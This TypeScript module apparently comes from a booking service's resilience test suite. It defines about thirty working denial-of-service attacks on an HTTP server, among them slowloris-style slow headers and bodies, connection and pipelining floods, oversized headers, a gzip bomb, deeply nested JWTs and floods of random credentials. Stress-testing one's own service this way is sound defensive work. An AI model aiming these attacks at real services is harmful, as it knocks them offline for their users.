import { randomBytes } from "node:crypto";
import type { Socket } from "node:net";
import { gzipSync } from "node:zlib";
import { generateApiKey } from "@travel-booking/http";
import { Crowd, type Target } from "./crowd.ts";

/** Begins an attack that goes on until its crowd leaves. None of them has a credential. */
export type Attack = (target: Target) => Crowd;

const DRIP_INTERVAL_MS = 500;
const SIP_BYTES = 1_000;
const CHUNK = Buffer.alloc(65_536, "a");
const TOKEN = "POST /v1/oauth/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n";
const DOCUMENT =
  "POST /v1/bookings/bkg_1/documents HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n";
const PAGE = "GET /docs HTTP/1.1\r\nHost: x\r\n\r\n";
const SMALL = "GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n";
/** Nearly as long as a head may be. */
const LONG = 15_900;

/** Sends this text again and again, slowly. */
function drip(socket: Socket, text: string): void {
  socket.resume();
  const timer = setInterval(() => socket.write(text), DRIP_INTERVAL_MS);
  socket.on("close", () => clearInterval(timer));
}

/** Sends this without end, as fast as it is taken. */
function pour(socket: Socket, bytes: Uint8Array): void {
  socket.resume();
  const more = () => {
    while (socket.writable && socket.write(bytes));
  };
  socket.on("drain", more);
  more();
}

/** Sends the next request as soon as anything of an answer is there. */
function flood(socket: Socket, request: () => string | Uint8Array): void {
  const next = () => socket.writable && socket.write(request());
  socket.on("data", next);
  next();
}

/** Takes a little of what has come, again and again. */
function sip(socket: Socket): void {
  const timer = setInterval(() => socket.read(SIP_BYTES), DRIP_INTERVAL_MS);
  socket.on("close", () => clearInterval(timer));
}

function withHeader(header: string): string {
  return `GET /v1/bookings HTTP/1.1\r\nHost: x\r\n${header}\r\n\r\n`;
}

const randomText = (bytes: number) => randomBytes(bytes).toString("base64url");

function formOf(fields: Readonly<Record<string, string>>): string {
  const form = new URLSearchParams(fields).toString();
  return `${TOKEN}Content-Length: ${form.length}\r\n\r\n${form}`;
}

const BOMB = gzipSync(Buffer.alloc(4 * 1_048_576));
const COMPRESSED = Buffer.concat([
  Buffer.from(`${TOKEN}Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n${BOMB.length.toString(16)}\r\n`),
  BOMB,
  Buffer.from("\r\n0\r\n\r\n"),
]);

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "idle connections": (target) => new Crowd(target, 1_000, (socket) => socket.resume()),
  "slow heads": (target) =>
    new Crowd(target, 1_000, (socket) => {
      socket.write("GET / HTTP/1.1\r\n");
      drip(socket, "x: y\r\n");
    }),
  "heads without their bodies": (target) =>
    new Crowd(target, 1_500, (socket) => {
      socket.resume().write(`${TOKEN}Content-Length: 8000\r\n\r\n`);
    }),
  "slow bodies": (target) =>
    new Crowd(target, 1_000, (socket) => {
      socket.write(`${TOKEN}Content-Length: 8000\r\n\r\n`);
      drip(socket, "a");
    }),
  "answers nobody reads": (target) =>
    new Crowd(target, 500, (socket) => {
      socket.write(PAGE);
    }),
  "slow readers": (target) =>
    new Crowd(target, 500, (socket) => {
      // More than the kernel takes.
      socket.write(PAGE.repeat(30));
      sip(socket);
    }),
  pipelining: (target) =>
    new Crowd(target, 300, (socket) => {
      socket.write(PAGE.repeat(40));
    }),
  "pipelining without end": (target) => {
    const pages = Buffer.from(PAGE.repeat(2_000));
    return new Crowd(target, 20, (socket) => {
      socket.write(pages);
    });
  },
  "a thousand requests at once": (target) => {
    const requests = Buffer.from(SMALL.repeat(1_400));
    return new Crowd(target, 600, (socket) => {
      socket.resume().write(requests);
    });
  },
  "buffers kept full": (target) => {
    const requests = Buffer.from(`GET /v1/openapi.json?${"%&".repeat(LONG / 2)} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(4));
    return new Crowd(target, 200, (socket) => flood(socket, () => requests));
  },
  "strangers from everywhere": (target) =>
    new Crowd(
      target,
      3_000,
      (socket) => {
        socket.write(PAGE.repeat(30));
      },
      { fromEverywhere: true },
    ),
  "fields without end": (target) => {
    const heads = Buffer.from(PAGE + withHeader("a:\r\n".repeat(3_900)).repeat(31));
    return new Crowd(target, 1_000, (socket) => {
      socket.write(heads);
    });
  },
  "connections made anew": (target) =>
    new Crowd(target, 500, (socket) => {
      socket.write(SMALL);
      socket.once("data", () => socket.destroy());
    }),
  "connections cut off": (target) =>
    new Crowd(target, 300, (socket) => {
      socket.write(PAGE);
      setImmediate(() => socket.resetAndDestroy());
    }),
  "long paths": (target) =>
    new Crowd(target, 1_000, (socket) => {
      socket.resume().write(`GET ${"/".repeat(LONG)} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(4));
    }),
  "names the service does not have": (target) =>
    new Crowd(target, 200, (socket) =>
      flood(socket, () => `GET /v1/openapi.json HTTP/1.1\r\nHost: ${randomBytes(8).toString("hex")}\r\n\r\n`),
    ),
  "tokens of many parts": (target) =>
    new Crowd(target, 1_000, (socket) => {
      socket.resume().write(withHeader(`Authorization: Bearer ${".".repeat(LONG)}`).repeat(4));
    }),
  "tokens that are deep": (target) => {
    const header = Buffer.from(`{"alg":"HS256","x":${"[".repeat(4_000)}${"]".repeat(4_000)}}`).toString("base64url");
    return new Crowd(target, 200, (socket) => flood(socket, () => withHeader(`Authorization: Bearer ${header}.e30.x`)));
  },
  "chunks of one byte": (target) => {
    const chunks = Buffer.from("1\r\na\r\n".repeat(10_900));
    return new Crowd(target, 300, (socket) => {
      socket.write("POST /health/live HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n");
      pour(socket, chunks);
    });
  },
  "blank lines": (target) => {
    const lines = Buffer.from("\r\n".repeat(32_000));
    return new Crowd(target, 300, (socket) => pour(socket, lines));
  },
  "bodies after a refusal": (target) =>
    new Crowd(target, 50, (socket) => {
      socket.write("POST /health/live HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n");
      pour(socket, CHUNK);
    }),
  "huge heads": (target) =>
    new Crowd(target, 50, (socket) => {
      socket.write("GET / HTTP/1.1\r\nx: ");
      pour(socket, CHUNK);
    }),
  "huge bodies": (target) =>
    new Crowd(target, 50, (socket) => {
      socket.write(`${TOKEN}Content-Length: 1000000000\r\n\r\n`);
      pour(socket, CHUNK);
    }),
  "bodies beside an upgrade": (target) =>
    new Crowd(target, 300, (socket) => {
      socket.write(`${TOKEN}Connection: Upgrade\r\nUpgrade: x\r\nContent-Length: 1000000000\r\n\r\n`);
      pour(socket, CHUNK);
    }),
  "compressed bodies": (target) => new Crowd(target, 50, (socket) => flood(socket, () => COMPRESSED)),
  "bad tokens": (target) =>
    new Crowd(target, 50, (socket) => {
      const header = Buffer.from('{"alg":"HS256","typ":"at+jwt"}').toString("base64url");
      flood(socket, () => withHeader(`Authorization: Bearer ${header}.${randomText(150)}.${randomText(32)}`));
    }),
  "unknown keys": (target) =>
    new Crowd(target, 50, (socket) => flood(socket, () => withHeader(`x-api-key: ${generateApiKey()}`))),
  "unknown clients": (target) =>
    new Crowd(target, 50, (socket) => {
      const grant = { grant_type: "client_credentials", client_secret: randomText(30) };
      flood(socket, () => formOf({ ...grant, client_id: randomText(20) }));
    }),
  uploads: (target) =>
    new Crowd(target, 50, (socket) => {
      socket.write(`${DOCUMENT}Content-Length: 10000000\r\n\r\n`);
      pour(socket, CHUNK);
    }),
};
